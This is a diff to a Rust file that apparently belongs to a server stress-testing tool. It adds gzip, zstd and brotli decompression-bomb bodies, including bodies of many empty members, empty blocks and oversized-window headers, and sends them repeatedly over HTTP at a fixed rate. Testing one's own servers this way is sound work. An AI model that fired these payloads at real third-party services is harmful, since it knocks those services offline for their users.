@@ -1,7 +1,7 @@
 //! Requests whose bodies are large, unfinished or costly to read.
 
 use std::collections::BTreeMap;
-use std::io;
+use std::io::{self, Write};
 use std::time::Duration;
 
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
@@ -27,8 +27,16 @@ const UNKNOWN_CONNECTIONS: usize = 1_000;
 const UNKNOWN_BODY_BYTES: usize = 64 << 10;
 
 const MEMBERS: usize = 870_000;
-const ZSTD_PER_SECOND: u32 = 46;
-const ZSTD_PATIENCE: Duration = Duration::from_secs(10);
+const MEMBERS_PER_SECOND: u32 = 46;
+
+/// So many made other callers wait 40 ms when each took 3 ms of a connection's thread.
+const ENCODED_PER_SECOND: u32 = 155;
+const ENCODED_PATIENCE: Duration = Duration::from_secs(10);
+
+/// Bytes of a body of many empty parts.
+const EMPTY_PARTS_BYTES: usize = 64 << 10;
+
+const GZIP_HEAD_BYTES: usize = 10;
 
 /// The largest frame that the protocol allows without an agreement.
 const FRAME_BYTES_MAX: usize = 16 << 10;
@@ -174,23 +182,94 @@ impl OpenStreams {
 pub(super) fn zstd_members(context: AttackContext) -> Running {
     Box::pin(async move {
         let inflated = call_with_members(context.options.scaled(MEMBERS));
-        let Ok(body) = zstd::bulk::compress(inflated.as_bytes(), 19) else {
-            return context.exceeded("the attack could not be compressed".to_owned());
-        };
-        context.note(format!("{} bytes inflate to {}", body.len(), inflated.len()));
-        let request = http1::post(&path(), "Content-Encoding: zstd\r\n", &body);
-        let (mut requests, mut ticks) = (JoinSet::new(), interval(Duration::from_secs(1) / ZSTD_PER_SECOND));
-        while !context.is_over() {
-            ticks.tick().await;
-            let (attacker, request) = (context.attacker.clone(), request.clone());
-            requests.spawn(timeout(ZSTD_PATIENCE, async move {
-                let mut connection = attacker.connect().await?;
-                connection.stream.write_all(&request).await?;
-                http1::read_reply(&mut connection.stream).await.map(drop)
-            }));
-            while requests.try_join_next().is_some() {}
+        let body = zstd::bulk::compress(inflated.as_bytes(), 19);
+        if let Ok(body) = &body {
+            context.note(format!("{} bytes inflate to {}", body.len(), inflated.len()));
         }
+        send_encoded(&context, "zstd", body.map(|body| vec![body]), MEMBERS_PER_SECOND).await;
     })
+}
+
+pub(super) fn gzip_bodies(context: AttackContext) -> Running {
+    Box::pin(async move {
+        let bodies = costly_gzip(context.options.scaled(BODY_BYTES));
+        send_encoded(&context, "gzip", bodies, ENCODED_PER_SECOND).await;
+    })
+}
+
+pub(super) fn zstd_bodies(context: AttackContext) -> Running {
+    Box::pin(async move {
+        let bodies = costly_zstd(context.options.scaled(BODY_BYTES));
+        send_encoded(&context, "zstd", bodies, ENCODED_PER_SECOND).await;
+    })
+}
+
+pub(super) fn brotli_bodies(context: AttackContext) -> Running {
+    let bodies = Ok(vec![brotli_with_widest_window(calls::chain_id().as_bytes())]);
+    Box::pin(async move { send_encoded(&context, "br", bodies, ENCODED_PER_SECOND).await })
+}
+
+/// Sends the compressed bodies in turn, each over a connection of its own.
+async fn send_encoded(
+    context: &AttackContext,
+    coding: &str,
+    bodies: io::Result<Vec<Vec<u8>>>,
+    per_second: u32,
+) {
+    let Ok(bodies) = bodies else {
+        return context.exceeded("the attack could not be compressed".to_owned());
+    };
+    let headers = format!("Content-Encoding: {coding}\r\n");
+    let requests: Vec<_> = bodies.iter().map(|body| http1::post(&path(), &headers, body)).collect();
+    let (mut answers, mut ticks) = (JoinSet::new(), interval(Duration::from_secs(1) / per_second));
+    for request in requests.iter().cycle() {
+        if context.is_over() {
+            return;
+        }
+        ticks.tick().await;
+        let (attacker, request) = (context.attacker.clone(), request.clone());
+        answers.spawn(timeout(ENCODED_PATIENCE, async move {
+            let mut connection = attacker.connect().await?;
+            connection.stream.write_all(&request).await?;
+            http1::read_reply(&mut connection.stream).await.map(|_| attacker.count_request())
+        }));
+        while answers.try_join_next().is_some() {}
+    }
+}
+
+/// A bomb, a body of many members that are empty, and a body of many blocks that are empty.
+fn costly_gzip(bomb_bytes: usize) -> io::Result<Vec<Vec<u8>>> {
+    let gzip = |text: &[u8]| {
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+        encoder.write_all(text)?;
+        encoder.finish()
+    };
+    let empty = gzip(b"")?;
+    let mut blocks = empty[..GZIP_HEAD_BYTES].to_vec();
+    while blocks.len() < EMPTY_PARTS_BYTES {
+        blocks.extend_from_slice(&[0, 0, 0, 0xff, 0xff]);
+    }
+    blocks.extend_from_slice(&empty[GZIP_HEAD_BYTES..]);
+    Ok(vec![gzip(&vec![b' '; bomb_bytes])?, empty.repeat(EMPTY_PARTS_BYTES / empty.len()), blocks])
+}
+
+/// A bomb, a body of many frames that are empty, and a body of many blocks that are empty, with the widest window.
+fn costly_zstd(bomb_bytes: usize) -> io::Result<Vec<Vec<u8>>> {
+    let empty = zstd::bulk::compress(b"", 1)?;
+    // The magic number, a frame without a length, and a window of 8 MiB.
+    let mut blocks = vec![0x28, 0xb5, 0x2f, 0xfd, 0, 13 << 3];
+    while blocks.len() < EMPTY_PARTS_BYTES {
+        blocks.extend_from_slice(&[0, 0, 0]);
+    }
+    blocks.extend_from_slice(&[1, 0, 0]);
+    let bomb = zstd::bulk::compress(&vec![b' '; bomb_bytes], 19)?;
+    Ok(vec![bomb, empty.repeat(EMPTY_PARTS_BYTES / empty.len()), blocks])
+}
+
+/// Text in one uncompressed block, with a window of 16 MiB.
+fn brotli_with_widest_window(text: &[u8]) -> Vec<u8> {
+    let head = 0x0080_000f | (text.len() as u32 - 1) << 7;
+    [&head.to_le_bytes()[..3], text, &[3]].concat()
 }
 
 /// A cheap call with so many members that mean nothing.
